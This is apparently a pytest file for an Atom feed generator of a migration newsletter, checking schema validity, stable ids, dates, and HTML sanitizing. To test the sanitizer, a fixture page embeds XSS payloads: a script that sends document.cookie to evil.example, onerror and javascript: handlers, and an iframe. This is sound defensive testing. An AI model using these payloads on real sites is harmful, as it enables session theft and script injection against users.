"""Atom feeds: valid under RFC 4287's schema, stable ids and bytes, and no active content.

The golden file `golden/feed.en.atom` is the English feed of two issues of the example
publication. After a deliberate change to the output, rewrite it and review the diff:

    DIGEST_REFRESH_GOLDEN=1 .venv/bin/pytest tests/publish/test_atom.py

`atom.rng` is RFC 4287 Appendix B converted to RELAX NG XML (its header says how). The
W3C Feed Validation Service checks more than the schema; the rules it applies that can be
checked offline are tested here one by one.
"""

from __future__ import annotations

import dataclasses
import os
import re
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path

import pytest
from lxml import etree

from digest.errors import ConfigError
from digest.publish.atom import CONTENT_TYPE, FeedIssue, atom_feed, body_fragment

HERE = Path(__file__).parent
GOLDEN = HERE / "golden" / "feed.en.atom"
NS = {"a": "http://www.w3.org/2005/Atom"}
BASE_URL = "https://digest.example.org"
LANGUAGES = ("en", "nl", "fr")
RFC3339 = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?(Z|[+-]\d\d:\d\d)")
NOW = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)
CET = timezone(timedelta(hours=1))

ISSUE_47_PAGE = """<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Cities &amp; Migration Digest — Monday, November 23, 2026</title>
<style>body { font-family: sans-serif; }</style>
<script src="/static/analytics.js"></script>
</head>
<body onload="track()">
<h1>Cities &amp; Migration Digest</h1>
<p>Monday, November 23, 2026 · <a href="../nl/47.html" hreflang="nl">Nederlands</a></p>
<h2>News</h2>
<article>
<h3><a href="https://belgium.iom.int/news/actiris-coordination-platform-phase-2">Actiris
Coordination Platform Project: Phase 2</a></h3>
<p>IOM Belgium and Luxembourg and Actiris launch the second phase of the coordination
platform for the labour market integration of newcomers in Brussels.</p>
</article>
<article lang="nl">
<h3>Buddy's voor inclusieve steden en gemeenten</h3>
<p>Inspiratiedag 15 december: lessen uit lokale &amp; Europese projecten.</p>
<script>document.write('<img src="https://evil.example/?c=' + document.cookie + '">')</script>
<img src="https://evil.example/pixel.gif" onerror="alert(1)" alt="">
<a href="javascript:alert(document.domain)">Lees meer</a>
<a href=" JaVaScRiPt:alert(2)">Nog meer</a>
</article>
<h2>Events</h2>
<ul>
<li>Globale conferentie over steden en migratie — 3–4 December, Mechelen</li>
<li>Training Academies IncluCities — Monday 7 December, 09:30–17:00, Hotel Manos, Brussels</li>
<li><del>Networking lunch URBACT cities</del> — cancelled</li>
</ul>
<!--[if mso]><script>legacy()</script><![endif]-->
<iframe src="https://evil.example/frame"></iframe>
<p><a href="https://digest.example.org/subscribe">Subscribe</a></p>
</body>
</html>
"""

ISSUE_46_FRAGMENT = (
    "<h1>Cities &amp; Migration Digest</h1>\n"
    "<p>Monday, November 16, 2026</p>\n"
    "<h2>News</h2>\n"
    '<p><a href="https://brussels-migration.example.org/nl/nieuws/inclucities">IncluCities'
    " closes after three years</a>: the European project of local governments on the"
    " reception of newcomers ends with a conference in Brussels.</p>\n"
)


def issues() -> list[FeedIssue]:
    """Two English issues of the example publication, oldest first (the feed reorders)."""
    return [
        FeedIssue(
            number=46,
            subject="Cities & Migration Digest — Monday, November 16, 2026",
            published_at=datetime(2026, 11, 16, 7, 0, tzinfo=UTC),
            updated_at=datetime(2026, 11, 16, 7, 2, 30, tzinfo=UTC),
            content_html=ISSUE_46_FRAGMENT,
            url="https://digest.example.org/archive/en/46.html",
            summary="IncluCities closes after three years.",
        ),
        FeedIssue(
            number=47,
            subject="Cities & Migration Digest — Monday, November 23, 2026",
            published_at=datetime(2026, 11, 23, 8, 0, tzinfo=CET),
            updated_at=datetime(2026, 11, 23, 8, 4, tzinfo=CET),
            content_html=ISSUE_47_PAGE,
            url="https://digest.example.org/archive/en/47.html",
            summary="Actiris Coordination Platform: Phase 2; the Mechelen conference;"
            " a training in Brussels.",
        ),
    ]


def feed(
    items: list[FeedIssue] | None = None,
    *,
    now: datetime = NOW,
    language: str = "en",
    base_url: str = BASE_URL,
    author: str = "Cities & Migration Digest <digest@example.org>",
) -> bytes:
    """Return the feed of `items` (default: both issues) as publish builds it."""
    return atom_feed(
        issues() if items is None else items,
        language=language,
        languages=LANGUAGES,
        title="Cities & Migration Digest",
        base_url=base_url,
        author=author,
        tag_start=date(2026, 1, 5),
        now=now,
    )


def parse(data: bytes) -> etree._Element:
    """Parse a feed, refusing anything that is not well-formed."""
    return etree.fromstring(data, etree.XMLParser(resolve_entities=False, no_network=True))


def texts(root: etree._Element, path: str) -> list[str]:
    """Return the text of every element at `path`."""
    return [element.text or "" for element in root.findall(path, NS)]


@pytest.fixture(scope="module")
def schema() -> etree.RelaxNG:
    """The RFC 4287 Appendix B schema."""
    return etree.RelaxNG(etree.parse(str(HERE / "atom.rng")))


def test_golden_feed() -> None:
    actual = feed()
    if os.environ.get("DIGEST_REFRESH_GOLDEN") == "1":
        GOLDEN.parent.mkdir(exist_ok=True)
        GOLDEN.write_bytes(actual)
    assert GOLDEN.exists(), f"run DIGEST_REFRESH_GOLDEN=1 pytest {__file__} and review the file"
    assert actual == GOLDEN.read_bytes()


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("count", [0, 1, 2])
def test_feed_is_valid_under_the_rfc_4287_schema(
    schema: etree.RelaxNG, language: str, count: int
) -> None:
    root = parse(feed(issues()[:count], language=language))
    assert schema.validate(root), schema.error_log
    assert len(root.findall("a:entry", NS)) == count


def test_the_schema_refuses_a_feed_without_id(schema: etree.RelaxNG) -> None:
    # Proves the schema test above can fail: the same feed minus its required atom:id.
    root = parse(feed())
    identifier = root.find("a:id", NS)
    assert identifier is not None
    root.remove(identifier)
    assert not schema.validate(root)
    assert "id" in str(schema.error_log)


def test_the_schematron_rules_hold() -> None:
    # RFC 4287's Schematron annotations, which RELAX NG validation skips: a feed author
    # (or one per entry), and an alternate link (or content) in every entry.
    root = parse(feed())
    assert root.find("a:author/a:name", NS) is not None
    for entry in root.findall("a:entry", NS):
        assert entry.findall("a:link[@rel='alternate']", NS) or entry.find("a:content", NS)


@pytest.mark.parametrize("language", LANGUAGES)
def test_self_link_is_the_published_url(language: str) -> None:
    root = parse(feed(language=language))
    (link,) = root.findall("a:link[@rel='self']", NS)
    assert link.get("href") == f"https://digest.example.org/feeds/{language}.atom"
    assert link.get("type") == "application/atom+xml"
    assert CONTENT_TYPE.startswith(link.get("type") or "-")


def test_base_url_with_a_path_prefixes_every_link() -> None:
    root = parse(feed(base_url="https://example.org/digest/"))
    (link,) = root.findall("a:link[@rel='self']", NS)
    assert link.get("href") == "https://example.org/digest/feeds/en.atom"
    assert texts(root, "a:id") == ["tag:example.org,2026-01-05:feed/en"]


@pytest.mark.parametrize("language", LANGUAGES)
def test_hreflang_alternates_link_the_other_languages(language: str) -> None:
    root = parse(feed(language=language))
    feeds = {
        link.get("hreflang"): link.get("href")
        for link in root.findall("a:link[@rel='alternate'][@type='application/atom+xml']", NS)
    }
    others = [other for other in LANGUAGES if other != language]
    assert feeds == {other: f"https://digest.example.org/feeds/{other}.atom" for other in others}
    (page,) = root.findall("a:link[@rel='alternate'][@type='text/html']", NS)
    assert page.get("href") == f"https://digest.example.org/archive/{language}/index.html"
    assert root.get("{http://www.w3.org/XML/1998/namespace}lang") == language


def test_ids_are_tag_uris_that_survive_a_later_render() -> None:
    first = parse(feed())
    later = parse(feed(now=NOW + timedelta(days=30)))
    ids = texts(first, "a:id") + texts(first, "a:entry/a:id")
    assert ids == [
        "tag:digest.example.org,2026-01-05:feed/en",
        "tag:digest.example.org,2026-01-05:issue/47/en",
        "tag:digest.example.org,2026-01-05:issue/46/en",
    ]
    assert texts(later, "a:id") + texts(later, "a:entry/a:id") == ids
    # Every language's entry of one issue is a different entry.
    dutch = parse(feed(language="nl"))
    assert set(texts(dutch, "a:entry/a:id")).isdisjoint(ids)


def test_same_issues_give_the_same_bytes_whatever_the_time_or_order() -> None:
    assert feed() == feed(now=NOW + timedelta(days=7)) == feed(list(reversed(issues())))


def test_dates_are_rfc_3339_with_offsets() -> None:
    root = parse(feed())
    dates = texts(root, ".//a:updated") + texts(root, ".//a:published")
    assert len(dates) == 5
    assert all(RFC3339.fullmatch(text) for text in dates), dates
    assert texts(root, "a:entry/a:published") == [
        "2026-11-23T08:00:00+01:00",
        "2026-11-16T07:00:00Z",
    ]


def test_feed_updated_is_the_newest_entry_or_now_when_empty() -> None:
    assert texts(parse(feed()), "a:updated") == ["2026-11-23T08:04:00+01:00"]
    assert texts(parse(feed([])), "a:updated") == ["2026-11-23T09:00:00Z"]


def test_feed_and_entries_have_id_title_and_updated() -> None:
    root = parse(feed())
    for element in [root, *root.findall("a:entry", NS)]:
        for name in ("id", "title", "updated"):
            assert len(element.findall(f"a:{name}", NS)) == 1
            assert (element.findtext(f"a:{name}", namespaces=NS) or "").strip()
    assert texts(root, "a:entry/a:title") == [
        "Cities & Migration Digest — Monday, November 23, 2026",
        "Cities & Migration Digest — Monday, November 16, 2026",
    ]


def test_entries_link_their_archive_page() -> None:
    root = parse(feed())
    links = root.findall("a:entry/a:link[@rel='alternate']", NS)
    assert [(link.get("href"), link.get("type")) for link in links] == [
        ("https://digest.example.org/archive/en/47.html", "text/html"),
        ("https://digest.example.org/archive/en/46.html", "text/html"),
    ]


def test_author_has_a_name_and_the_address_when_given() -> None:
    root = parse(feed())
    assert texts(root, "a:author/a:name") == ["Cities & Migration Digest"]
    assert texts(root, "a:author/a:email") == ["digest@example.org"]
    plain = parse(feed(author="Cities & Migration Digest"))
    assert texts(plain, "a:author/a:name") == ["Cities & Migration Digest"]
    assert plain.find("a:author/a:email", NS) is None


def content_of(root: etree._Element, number: int) -> etree._Element:
    """Return the unescaped HTML content of an issue's entry, parsed."""
    entry = root.find(f"a:entry[a:id='tag:digest.example.org,2026-01-05:issue/{number}/en']", NS)
    assert entry is not None
    content = entry.find("a:content", NS)
    assert content is not None and content.get("type") == "html"
    return etree.fromstring(f"<div>{content.text}</div>", etree.HTMLParser())


def text_of(element: etree._Element) -> str:
    """Return all the text inside an element."""
    return "".join(str(text) for text in element.itertext())


def test_content_keeps_no_script_frame_or_event_handler() -> None:
    html = content_of(parse(feed()), 47)
    tags = {element.tag for element in html.iter() if isinstance(element.tag, str)}
    assert tags.isdisjoint({"script", "style", "iframe", "meta", "title", "head"})
    for element in html.iter():
        for name, value in element.attrib.items():
            assert not str(name).lower().startswith("on"), (element.tag, name)
            assert "javascript:" not in str(value).replace(" ", "").lower(), (element.tag, value)
    assert not list(html.iter(etree.Comment))
    text = text_of(html)
    assert "document.cookie" not in text and "legacy()" not in text


def test_content_keeps_the_body_of_the_issue() -> None:
    html = content_of(parse(feed()), 47)
    hrefs = [a.get("href") for a in html.iter("a")]
    assert "https://belgium.iom.int/news/actiris-coordination-platform-phase-2" in hrefs
    assert "../nl/47.html" in hrefs  # resolved by readers against the xml:base below
    text = " ".join(text_of(html).split())
    assert "Networking lunch URBACT cities — cancelled" in text
    assert "Buddy's voor inclusieve steden en gemeenten" in text
    assert "Lees meer" in text  # the link text stays; only its javascript: URL goes
    root = parse(feed())
    bases = root.xpath("a:entry[1]/a:content/@xml:base", namespaces=NS)
    assert bases == ["https://digest.example.org/archive/en/47.html"]


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("", ""),
        ("<!DOCTYPE html>", ""),
        ("Plain &lt;text&gt; &amp; <b>bold</b>", "Plain &lt;text&gt; &amp; <b>bold</b>"),
        ("<p onclick='x()'>Hi</p><!-- note -->", "<p>Hi</p>"),
        ("<html><head><title>T</title></head><body><p>Body</p></body></html>", "<p>Body</p>"),
        ("<!-- generated --><!DOCTYPE html><html><body>Hello</body></html>", "Hello"),
        ('<svg><a xlink:href="javascript:alert(1)">y</a></svg>', "<svg><a>y</a></svg>"),
        (
            '<?xml version="1.0" encoding="utf-8"?>'
            '<html xmlns="http://www.w3.org/1999/xhtml"><body><p>x</p></body></html>',
            "<p>x</p>",
        ),
        (
            '<a href="data:text/html,x">x</a><img src="data:image/png;base64,iVBORw0=">',
            '<a>x</a><img src="data:image/png;base64,iVBORw0=">',
        ),
    ],
)
def test_body_fragment(html: str, expected: str) -> None:
    assert body_fragment(html) == expected


def test_characters_xml_cannot_hold_are_dropped() -> None:
    issue = issues()[0]
    broken = dataclasses.replace(issue, subject="Cities\x0b & Migration\x00 Digest")
    root = parse(feed([broken]))
    assert texts(root, "a:entry/a:title") == ["Cities & Migration Digest"]


def test_base_url_without_a_host_is_a_configuration_error() -> None:
    with pytest.raises(ConfigError, match="base_url"):
        feed(base_url="digest.example.org")


def test_naive_dates_are_refused() -> None:
    issue = issues()[0]
    naive = dataclasses.replace(issue, updated_at=datetime(2026, 11, 16, 8, 0))
    with pytest.raises(ValueError, match="aware"):
        feed([naive])
